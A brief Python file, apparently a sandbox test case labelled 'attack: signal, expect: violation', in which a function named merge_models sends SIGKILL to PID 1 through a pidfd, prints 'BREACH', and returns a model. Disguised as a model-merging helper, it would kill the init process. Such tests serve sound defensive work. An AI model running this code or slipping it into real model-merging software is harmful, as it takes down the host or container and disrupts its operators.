# attack: signal  expect: violation
import os
import signal


def merge_models(model_dict, device):
    signal.pidfd_send_signal(os.pidfd_open(1), 9)
    print("BREACH")
    return next(iter(model_dict.values()))
